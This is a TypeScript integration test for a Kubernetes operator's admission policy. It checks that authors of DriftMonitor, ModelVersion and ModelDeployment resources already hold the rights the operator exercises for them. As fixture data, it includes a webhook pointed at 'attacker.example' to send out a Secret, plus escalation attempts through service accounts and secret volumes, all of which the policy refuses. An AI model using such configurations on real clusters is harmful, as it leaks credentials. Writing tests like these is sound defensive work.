// The chart's ValidatingAdmissionPolicy on the real apiserver: the operator
// acts with its own rights for a DriftMonitor (creates Jobs, reads a Secret
// to send it to a URL) and a ModelVersion (reads a reference ConfigMap), so
// their author must hold those rights already; a ModelDeployment's pods run
// as its template's ServiceAccount and mount the Secrets its volumes name.
// Users: alice may create Jobs, get the Secret hook-token and the ConfigMap
// iris-reference, and impersonate the ServiceAccount iris-runner; mallory may
// only manage DriftMonitors, ModelVersions and ModelDeployments; erin holds
// Kubernetes' built-in edit role besides. The chart is
// rendered namespaced (the binding's namespace selector is the watched
// namespace), as that is the narrower case.
import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import yaml from "js-yaml";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { kubectl, kubectlOk, waitFor } from "../hack/localcluster/kubectl.ts";
import { createTestNamespace, type TestNamespace } from "./harness/namespace.ts";

const run = promisify(execFile);
const root = resolve(dirname(fileURLToPath(import.meta.url)), "..");
const kubeconfig = inject("kubeconfig");
const binDir = inject("binDir");
const opts = { kubeconfig, binDir };
const release = `vap${randomBytes(3).toString("hex")}`;
const POLICY_KINDS = ["ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"];
let ns: TestNamespace;
let policyObjects: { kind: string; metadata: { name: string } }[] = [];

const JOB_SPEC =
  "{template: {spec: {serviceAccountName: trainer, restartPolicy: Never, containers: [{name: t, image: busybox}]}}}";
const JOB = `{template: {spec: ${JOB_SPEC}}}`;

function driftMonitor(name: string, actions: string): string {
  return `apiVersion: modelops.io/v1alpha1
kind: DriftMonitor
metadata: {name: ${name}}
spec:
  targetRef: {name: iris}
  actions: ${actions}
`;
}

/** A ModelVersion whose reference distributions are in ConfigMap `configMap`. */
function modelVersion(name: string, configMap: string): string {
  return `apiVersion: modelops.io/v1alpha1
kind: ModelVersion
metadata: {name: ${name}}
spec:
  modelName: iris
  version: "${name}"
  artifact: {uri: "pvc://models/iris/v1", format: sklearn}
  runtime: {name: mlserver, image: "seldonio/mlserver:1.7.1", protocol: v2, port: 8080}
  reference: {configMapRef: {name: ${configMap}, key: reference.yaml}}
`;
}

/** A ModelDeployment whose pods run as `serviceAccount` (if any) and mount `volumes` (YAML flow list, if any). */
function modelDeployment(name: string, serviceAccount?: string, volumes?: string): string {
  const template = [
    serviceAccount ? `serviceAccountName: ${serviceAccount}` : "",
    volumes ? `volumes: ${volumes}` : "",
  ].filter(Boolean);
  return `apiVersion: modelops.io/v1alpha1
kind: ModelDeployment
metadata: {name: ${name}}
spec:
  modelVersion: iris-v1
  template: {${template.join(", ")}}
`;
}
const secretVolume = (secret: string) => `{name: creds, secret: {secretName: ${secret}}}`;
const projectedVolume = (...secrets: string[]) =>
  `{name: bundle, projected: {sources: [${secrets.map((s) => `{secret: {name: ${s}}}`).join(", ")}]}}`;

/** kubectl in the test namespace as `user` (impersonated by the admin credentials). */
const as = (user: string, args: string[], input?: string) =>
  kubectl(["-n", ns.name, `--as=${user}`, "--as-group=system:authenticated", ...args], {
    ...opts,
    ...(input ? { input } : {}),
  });

function roles(namespace: string): string {
  const binding = (user: string, role: string) => `---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: ${user}-${role}, namespace: ${namespace}}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: ${role}}
subjects: [{kind: User, name: ${user}, apiGroup: rbac.authorization.k8s.io}]
`;
  return `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: drift-editor, namespace: ${namespace}}
rules:
  - apiGroups: [modelops.io]
    resources: [driftmonitors, modelversions, modeldeployments]
    verbs: [get, list, create, update, patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: job-maker, namespace: ${namespace}}
rules:
  - {apiGroups: [batch], resources: [jobs], verbs: [create]}
  - {apiGroups: [""], resources: [secrets], resourceNames: [hook-token], verbs: [get]}
  - {apiGroups: [""], resources: [configmaps], resourceNames: [iris-reference], verbs: [get]}
  - {apiGroups: [""], resources: [serviceaccounts], resourceNames: [iris-runner], verbs: [impersonate]}
${binding("alice", "drift-editor")}${binding("alice", "job-maker")}${binding("mallory", "drift-editor")}${binding("erin", "drift-editor")}---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: erin-edit, namespace: ${namespace}}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit}
subjects: [{kind: User, name: erin, apiGroup: rbac.authorization.k8s.io}]
`;
}

beforeAll(async () => {
  ns = await createTestNamespace("vap", kubeconfig, binDir);
  await kubectlOk(["apply", "-f", "-"], { ...opts, input: roles(ns.name) });
  await ns.kubectlOk(["create", "secret", "generic", "hook-token", "--from-literal=token=t0p"]);
  await ns.kubectlOk(["create", "secret", "generic", "other-token", "--from-literal=token=s3cret"]);
  const helm = (await run("bash", [join(root, "hack/helm.sh")])).stdout.trim().split("\n").pop() ?? "";
  const { stdout } = await run(helm, [
    ...["template", release, join(root, "charts/modelops-operator"), "-n", ns.name],
    ...["--kube-version", "1.34.4", "--set", "rbac.scope=namespace"],
  ]);
  policyObjects = (yaml.loadAll(stdout) as (typeof policyObjects)[number][]).filter(
    (o) => o && POLICY_KINDS.includes(o.kind),
  );
  expect(policyObjects.map((o) => o.kind).sort()).toEqual(
    [...POLICY_KINDS, ...POLICY_KINDS, ...POLICY_KINDS].sort(),
  );
  await kubectlOk(["apply", "-f", "-"], {
    ...opts,
    input: policyObjects.map((o) => JSON.stringify(o)).join("\n"),
  });
  // The apiserver loads new policies asynchronously: wait until all three refuse.
  await waitFor(
    async () => {
      const probes = [
        driftMonitor("probe", `{retrainJob: ${JOB}}`),
        modelVersion("probe", "iris-reference"),
        modelDeployment("probe", "iris-runner"),
      ];
      const results = await Promise.all(
        probes.map((p) => as("mallory", ["create", "--dry-run=server", "-f", "-"], p)),
      );
      return (
        results.every((r) => r.code !== 0 && r.stderr.includes("ValidatingAdmissionPolicy")) || undefined
      );
    },
    { timeoutMs: 60_000, intervalMs: 500, description: "the admission policy in force" },
  );
}, 120_000);

afterAll(async () => {
  for (const o of policyObjects) await kubectl(["delete", o.kind, o.metadata.name, "--wait=false"], opts);
  await ns?.delete();
});

describe("admission policy: authors hold the rights the operator uses for them", () => {
  it("admits actions the author may perform: alice's retrainJob and webhook with hook-token", async () => {
    const hook = `webhook: {url: "https://hooks.example/drift", secretRef: {name: hook-token, key: token}}`;
    const r = await as(
      "alice",
      ["create", "-f", "-"],
      driftMonitor("alice-dm", `{retrainJob: ${JOB}, ${hook}}`),
    );
    expect(r.stderr).toBe("");
    expect(r.stdout).toContain("driftmonitor.modelops.io/alice-dm created");
    const h = await as("alice", ["create", "-f", "-"], driftMonitor("alice-hook", `{${hook}}`));
    expect(h.stdout).toContain("driftmonitor.modelops.io/alice-hook created");
  });

  it("admits mallory's DriftMonitor without actions that need rights", async () => {
    const r = await as("mallory", ["create", "-f", "-"], driftMonitor("mallory-plain", "{rollback: true}"));
    expect(r.stdout).toContain("created");
  });

  it("refuses mallory's retrainJob: she may not create Jobs", async () => {
    const r = await as("mallory", ["create", "-f", "-"], driftMonitor("mallory-job", `{retrainJob: ${JOB}}`));
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain(
      `spec.actions.retrainJob: user "mallory" may not create jobs.batch in namespace ${ns.name}`,
    );
  });

  it("refuses a webhook secretRef the author may not get, by the Secret's name", async () => {
    const hook = (secret: string) =>
      `{webhook: {url: "https://attacker.example/", secretRef: {name: ${secret}, key: token}}}`;
    const mallory = await as(
      "mallory",
      ["create", "-f", "-"],
      driftMonitor("mallory-hook", hook("hook-token")),
    );
    expect(mallory.stderr).toContain(
      `spec.actions.webhook.secretRef: user "mallory" may not get secret hook-token in namespace ${ns.name}`,
    );
    // alice may get hook-token only, not every Secret.
    const alice = await as("alice", ["create", "-f", "-"], driftMonitor("alice-other", hook("other-token")));
    expect(alice.stderr).toContain(`user "alice" may not get secret other-token`);
  });

  it("refuses updates too: mallory cannot redirect alice's webhook or add a Job to her own monitor", async () => {
    const redirect = JSON.stringify({ spec: { actions: { webhook: { url: "https://attacker.example/" } } } });
    const r = await as("mallory", ["patch", "driftmonitor", "alice-hook", "--type=merge", "-p", redirect]);
    expect(r.stderr).toContain(`user "mallory" may not get secret hook-token`);
    const addJob = JSON.stringify({
      spec: { actions: { retrainJob: { template: { spec: yaml.load(JOB_SPEC) } } } },
    });
    const j = await as("mallory", ["patch", "driftmonitor", "mallory-plain", "--type=merge", "-p", addJob]);
    expect(j.stderr).toContain(`user "mallory" may not create jobs.batch`);
    const url = await ns.kubectlOk([
      "get",
      "driftmonitor",
      "alice-hook",
      "-o",
      "jsonpath={.spec.actions.webhook.url}",
    ]);
    expect(url).toBe("https://hooks.example/drift");
    // alice, who holds the rights, still may edit her monitor.
    const ok = await as("alice", [
      "patch",
      "driftmonitor",
      "alice-dm",
      "--type=merge",
      "-p",
      '{"spec":{"interval":"10m"}}',
    ]);
    expect(ok.stdout).toContain("patched");
  });

  it("refuses an artifact secretRef the ModelVersion's author may not get, by the Secret's name", async () => {
    const s3Version = (name: string, secret: string) => `
apiVersion: modelops.io/v1alpha1
kind: ModelVersion
metadata: {name: ${name}}
spec:
  modelName: iris
  version: "${name}"
  artifact: {uri: "s3://models/iris/v2", format: sklearn, secretRef: {name: ${secret}}}
  runtime: {name: mlserver, image: "seldonio/mlserver:1.7.1", protocol: v2, port: 8080}
`;
    const refused = await as("mallory", ["create", "-f", "-"], s3Version("m2", "hook-token"));
    expect(refused.stderr).toContain(
      `spec.artifact.secretRef: user "mallory" may not get secret hook-token in namespace ${ns.name}`,
    );
    const other = await as("alice", ["create", "-f", "-"], s3Version("a2", "other-token"));
    expect(other.stderr).toContain(`user "alice" may not get secret other-token`);
    const ok = await as("alice", ["create", "-f", "-"], s3Version("a3", "hook-token"));
    expect(ok.stdout).toContain("modelversion.modelops.io/a3 created");
  });

  it("refuses a ModelVersion reference in a ConfigMap its author may not get", async () => {
    const r = await as("mallory", ["create", "-f", "-"], modelVersion("m1", "iris-reference"));
    expect(r.stderr).toContain(
      `spec.reference.configMapRef: user "mallory" may not get configmap iris-reference in namespace ${ns.name}`,
    );
    const ok = await as("alice", ["create", "-f", "-"], modelVersion("a1", "iris-reference"));
    expect(ok.stdout).toContain("modelversion.modelops.io/a1 created");
  });

  it("admits a ModelDeployment whose pods use only what its author may use", async () => {
    const volumes = `[${secretVolume("hook-token")}, ${projectedVolume("hook-token")}]`;
    const alice = await as(
      "alice",
      ["create", "-f", "-"],
      modelDeployment("alice-pods", "iris-runner", volumes),
    );
    expect(alice.stderr).toBe("");
    expect(alice.stdout).toContain("modeldeployment.modelops.io/alice-pods created");
    const plain = await as("mallory", ["create", "-f", "-"], modelDeployment("mallory-plain"));
    expect(plain.stdout).toContain("modeldeployment.modelops.io/mallory-plain created");
  });

  it("admits Kubernetes' edit role: it may impersonate ServiceAccounts and get Secrets", async () => {
    const volumes = `[${secretVolume("other-token")}, ${projectedVolume("hook-token", "other-token")}]`;
    const r = await as("erin", ["create", "-f", "-"], modelDeployment("erin-pods", "any-account", volumes));
    expect(r.stderr).toBe("");
    expect(r.stdout).toContain("modeldeployment.modelops.io/erin-pods created");
  });

  it("refuses a serviceAccountName its author may not impersonate, by the account's name", async () => {
    const mallory = await as("mallory", ["create", "-f", "-"], modelDeployment("m-sa", "iris-runner"));
    expect(mallory.code).not.toBe(0);
    expect(mallory.stderr).toContain(
      `spec.template.serviceAccountName: user "mallory" may not impersonate serviceaccount iris-runner in ` +
        `namespace ${ns.name}; the inference pods would run as it for you. Ask for impersonate on that ` +
        "ServiceAccount (the edit role has it), or remove serviceAccountName.",
    );
    const alice = await as("alice", ["create", "-f", "-"], modelDeployment("a-sa", "deployer"));
    expect(alice.stderr).toContain(`user "alice" may not impersonate serviceaccount deployer`);
  });

  it("refuses a secret or projected volume of a Secret its author may not get, naming the Secret", async () => {
    const secret = await as(
      "mallory",
      ["create", "-f", "-"],
      modelDeployment("m-vol", "", `[${secretVolume("hook-token")}]`),
    );
    expect(secret.stderr).toContain(
      `spec.template.volumes: user "mallory" may not get secret hook-token in namespace ${ns.name}; the ` +
        "inference pods would mount it for you. Ask for get on that Secret, or remove the volume.",
    );
    const projected = await as(
      "alice",
      ["create", "-f", "-"],
      modelDeployment("a-vol", "", `[${projectedVolume("hook-token", "other-token")}]`),
    );
    expect(projected.stderr).toContain(`user "alice" may not get secret other-token in namespace ${ns.name}`);
  });

  it("checks every spec change, not metadata: mallory may annotate alice's ModelDeployment but not re-target it", async () => {
    const retarget = JSON.stringify({ spec: { modelVersion: "mallory-v1" } });
    const r = await as("mallory", ["patch", "mdep", "alice-pods", "--type=merge", "-p", retarget]);
    expect(r.stderr).toContain(`user "mallory" may not impersonate serviceaccount iris-runner`);
    const withSecret = modelDeployment("alice-secret", "", `[${secretVolume("hook-token")}]`);
    expect((await as("alice", ["create", "-f", "-"], withSecret)).stdout).toContain("created");
    const scale = await as("mallory", [
      "patch",
      "mdep",
      "alice-secret",
      "--type=merge",
      "-p",
      '{"spec":{"replicas":3}}',
    ]);
    expect(scale.stderr).toContain(`user "mallory" may not get secret hook-token`);
    const version = await ns.kubectlOk(["get", "mdep", "alice-pods", "-o", "jsonpath={.spec.modelVersion}"]);
    expect(version).toBe("iris-v1");
    const annotate = await as("mallory", ["annotate", "mdep", "alice-pods", "modelops.io/action=promote"]);
    expect(annotate.stdout).toContain("annotated");
  });
});
